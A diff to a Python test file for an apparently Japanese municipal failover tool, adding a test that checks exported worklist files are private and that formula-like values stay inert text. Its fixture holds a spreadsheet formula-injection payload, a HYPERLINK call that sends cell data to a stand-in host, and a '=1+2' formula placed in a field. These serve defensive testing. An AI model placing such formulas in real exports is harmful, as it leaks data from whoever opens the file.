@@ -29,7 +29,7 @@ from dc.config import Consortium, Reentry, System, load_config
 from failover.report_html import render_html
 from failover.report_ja import render_ja
 from failover.results import SystemResult, to_document
-from failover.worklist import failover_losses
+from failover.worklist import failover_losses, write_worklist
 from tests.backup.walsite import SYSTEM, WalSite, wal_site
 from tests.conftest import PASSWORD, Cli
 from tests.failover.documents import document
@@ -388,3 +388,22 @@ def test_the_html_report_counts_each_towns_rows_and_escapes_what_survivors_said(
     assert "五霞町 1件" in html and "2026-12-06 12:14:55 JST" in html  # survived to, in JST
     assert "残存WALなし" in html and "2026-12-06 12:19:15 JST" in html  # the declared end of the lost interval
     assert "失われた処理" not in render_html(document(when), {})
+
+
+def test_worklist_files_are_private_and_never_run_a_formula(tmp_path: Path) -> None:
+    import openpyxl
+
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+    row = {"business": "税 収納", "town": "五霞町", "table": "public.shuno", "operation": "追加", "xid": 9,
+           "committed_at": "2026-12-06T03:14:15+00:00", "fields": {"id": "007", "note": formula}}  # fmt: skip
+    doc = {"system": SYSTEM, "rows": [row, row | {"town": "a/b:c*[d]?"}, row | {"town": "=1+2"}]}
+    csv_path, xlsx_path = write_worklist(doc, tmp_path)
+    assert {p.stat().st_mode & 0o777 for p in (csv_path, xlsx_path)} == {0o600}
+    assert "\n'=1+2," in csv_path.read_text(encoding="utf-8-sig")  # Excel shows it, never runs it
+    book = openpyxl.load_workbook(xlsx_path)
+    assert book.sheetnames == ["五霞町", "a_b_c__d__", "=1+2"]
+    cells = [c for s in book.worksheets for r in s.iter_rows(min_row=2) for c in r]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert any(c.value == "id=007、note=" + formula for c in cells)
+    with pytest.raises(ValidationError, match="may never appear"):
+        Reentry(business="税 収納", fields=("KOJIN_BANGO",))
